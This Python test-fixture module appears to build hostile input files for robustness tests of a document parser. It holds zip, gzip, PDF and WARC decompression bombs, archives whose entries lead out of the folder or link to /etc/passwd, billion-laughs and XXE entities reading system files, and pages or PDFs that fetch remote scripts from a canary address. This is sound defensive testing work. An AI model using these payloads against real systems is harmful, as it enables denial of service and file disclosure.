"""Small files that harm a program that opens them; `address` is where a canary listens."""

from __future__ import annotations

import gzip
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable
from io import BytesIO

from support import made_files
from support.made_files import docx, page, pdf_of, pdf_with, warc, zipped

ZEROS = bytes(1_000_000)
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefghi", "bcdefghij", strict=True)
) + "]>"  # fmt: skip


def zeros(count: int) -> bytes:
    """`count` million zeros, compressed to a thousandth."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([packer.compress(ZEROS) for _ in range(count)] + [packer.flush()])


def zip_of_zeros(names: Iterable[str], each: int) -> bytes:
    """A ZIP of files with `each` million zeros each."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            with archive.open(name, "w", force_zip64=True) as file:
                for _ in range(each):
                    file.write(ZEROS)
    return stream.getvalue()


def zip_in_zip(depth: int) -> bytes:
    """A ZIP in a ZIP in a ZIP, with a page in the last."""
    data = zipped({"a.html": page()})
    for _ in range(depth):
        data = zipped({"a.zip": data})
    return data


def zip_that_leads_out() -> bytes:
    """A ZIP whose files would be written outside the folder."""
    return zipped({name: page() for name in ("../../out.html", "/etc/out.html", "C:\\out.html", "a/../../out.html")})


def zip_with_link() -> bytes:
    """A ZIP with a link to a system file."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        info = zipfile.ZipInfo("a.html")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return stream.getvalue()


def zip_encrypted() -> bytes:
    """A ZIP that claims that its file is encrypted."""
    data = bytearray(zipped({"a.html": page()}))
    data[6] |= 1
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def zip_with_long_list() -> bytes:
    """A ZIP that claims that its list of files is 4 GB long."""
    data = bytearray(zipped({"a.html": page()}))
    at = data.rfind(b"PK\x05\x06")
    data[at + 12 : at + 16] = struct.pack("<I", 0xFFFFFF00)
    return bytes(data)


def tar_of(*members: tarfile.TarInfo, packed: bool = False) -> bytes:
    """A tar archive of members without content."""
    stream = BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz" if packed else "w") as archive:
        for it in members:
            archive.addfile(it, BytesIO(page()[: it.size]))
    return stream.getvalue()


def tar_that_leads_out() -> bytes:
    """A tar archive with a name that leads out of it, a link and a device."""
    out, link, device = (tarfile.TarInfo(it) for it in ("../out.html", "link.html", "device.html"))
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    device.type = tarfile.CHRTYPE
    return tar_of(out, link, device)


def tar_with_long_header() -> bytes:
    """A compressed tar archive whose first header claims 8 GB, all zeros."""
    info = tarfile.TarInfo("header")
    info.type, info.size = tarfile.XHDTYPE, 8 * 10**9
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(info.tobuf(tarfile.GNU_FORMAT)), *(packer.compress(ZEROS) for _ in range(100))]
    return b"".join([*parts, packer.flush()])


def feed(head: str, body: str) -> bytes:
    """A feed that follows a declaration."""
    item = f"<item><title>{body}</title></item>"
    return f'<?xml version="1.0"?>{head}<rss version="2.0"><channel>{item}</channel></rss>'.encode()


def entity(address: str) -> str:
    """The declaration of external entities: a system file, and an address."""
    return f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "{address}/entity">]>'


def pdf_of_zeros() -> bytes:
    """A PDF whose page is 200 MB of zeros, compressed."""
    packer = zlib.compressobj(9)
    data = b"".join([packer.compress(ZEROS) for _ in range(200)] + [packer.flush()])
    return pdf_with([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data),
    ])  # fmt: skip


def pdf_in_a_ring() -> bytes:
    """A PDF whose pages contain themselves."""
    return pdf_with([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 900000 >>"])


def pdf_of_many_pages() -> bytes:
    """A PDF of 600 pages."""
    kids = " ".join(f"{number} 0 R" for number in range(3, 603))
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * 600
    return pdf_with(
        [b"<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count 600 >>".encode(), *pages]
    )


def mail_in_mail(depth: int) -> bytes:
    """A message in a message in a message."""
    head = b"From: a@example.org\nMIME-Version: 1.0\nSubject: a\n"
    return head + b"".join(
        b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (number, number) for number in range(depth)
    )


TOLD: dict[str, Callable[[str], bytes]] = {
    "bomb.zip": lambda _: zip_of_zeros(["a.html"], 60),
    "many-bombs.zip": lambda _: zip_of_zeros(map("{}.html".format, range(30)), 40),
    "nested.zip": lambda _: zip_in_zip(5),
    "leads-out.zip": lambda _: zip_that_leads_out(),
    "link.zip": lambda _: zip_with_link(),
    "encrypted.zip": lambda _: zip_encrypted(),
    "long-list.zip": lambda _: zip_with_long_list(),
    "cut.zip": lambda _: zipped({"a.html": page()})[:-40],
    "bomb.html.gz": lambda _: zeros(300),
    "cut.html.gz": lambda _: gzip.compress(page())[:-20],
    "leads-out.tar": lambda _: tar_that_leads_out(),
    "header.tar.gz": lambda _: tar_with_long_header(),
    "long.html": lambda _: b"<html><body>" + b"<p>Mora denied it.</p>" * 2_800_000,
    "long-text.html": lambda _: b"<html><body><p>" + b"Mora denied it. " * 400_000,
    "elements.html": lambda _: b"<html><body>" + b"<i></i>" * 300_000,
    "deep.html": lambda _: b"<html><body>" + b"<div>" * 100_000 + b"<p>a",
    "empty.html": lambda _: b"<!DOCTYPE html><html></html>",
    "picture.html": lambda _: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50,
    "laughs.rss": lambda _: feed(LAUGHS, "&j;"),
    "entity.rss": lambda address: feed(entity(address), "&a;&b;"),
    "laughs.docx": lambda _: docx(LAUGHS),
    "entity.docx": lambda address: docx(entity(address)),
    "bomb.docx": lambda _: zip_of_zeros(["word/document.xml"], 60),
    "bomb.pdf": lambda _: pdf_of_zeros(),
    "ring.pdf": lambda _: pdf_in_a_ring(),
    "pages.pdf": lambda _: pdf_of_many_pages(),
    "cut.pdf": lambda _: made_files.pdf()[:200],
    "no-text.pdf": lambda _: pdf_of(b""),
    "deep.eml": lambda _: mail_in_mail(3_000),
    "deep.jsonl": lambda _: b"[" * 100_000 + b"\n",
    "wide.csv": lambda _: b"text\n" + b'"' + b"a" * 11_000_000 + b'"\n',
    "cut.parquet": lambda _: made_files.parquet()[:-30],
    "lies.parquet": lambda _: b"PAR1" + bytes(200) + b"\xff\xff\xff\x7fPAR1",
    "cut.warc.gz": lambda _: warc()[:500],
    "bomb.warc.gz": lambda _: warc(b"<html>" + b"".join([ZEROS] * 60)),
}
"""Files from which nothing can be read: each is reported by name."""


def loaded_page(address: str) -> bytes:
    """A page that would fetch and run many things."""
    marks = (
        '<base href="{}/">',
        '<link rel="stylesheet" href="{}/style">',
        '<script src="{}/script"></script>',
        '<meta http-equiv="refresh" content="0;url={}/refresh">',
        '<img src="{}/picture" onerror="alert(1)">',
        '<iframe src="{}/frame"></iframe>',
        '<object data="{}/object"></object>',
        "<style>@import '{}/import';</style>",
    )
    more = "".join(it.replace("{}", address) for it in marks)
    deep = "[" * 100_000
    return page().replace(b"</head>", f'{more}<script type="application/ld+json">{deep}</script></head>'.encode())


def loaded_pdf(address: str) -> bytes:
    """A PDF that would run a script and open an address."""
    then = f"/Next << /S /URI /URI ({address}/uri) >>"
    action = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{address}/script'\\)) {then} >>"
    content = made_files.pdf()
    start, end = content.index(b"stream\n") + 7, content.index(b"\nendstream")
    return pdf_of(content[start:end], action)


def loaded_docx(address: str) -> bytes:
    """A document with a macro and an external template."""
    with zipfile.ZipFile(BytesIO(docx())) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    target = f'<Relationships><Relationship Type="{kind}" Target="{address}/t" TargetMode="External"/></Relationships>'
    return zipped(
        {**files, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0", "word/_rels/settings.xml.rels": target.encode()}
    )


def lying_page(_: str) -> bytes:
    """A page that declares a wrong encoding, twice."""
    return page().replace(b'charset="utf-8"', b'charset="punycode"')


READ: dict[str, Callable[[str], bytes]] = {
    "loaded.html": loaded_page,
    "loaded.pdf": loaded_pdf,
    "loaded.docm": loaded_docx,
    "lying.html": lying_page,
    "loaded.jsonl": lambda address: json.dumps({"text": loaded_page(address).decode()}).encode(),
}
"""Files with an article, and with contents that would harm a program that did more than read it."""
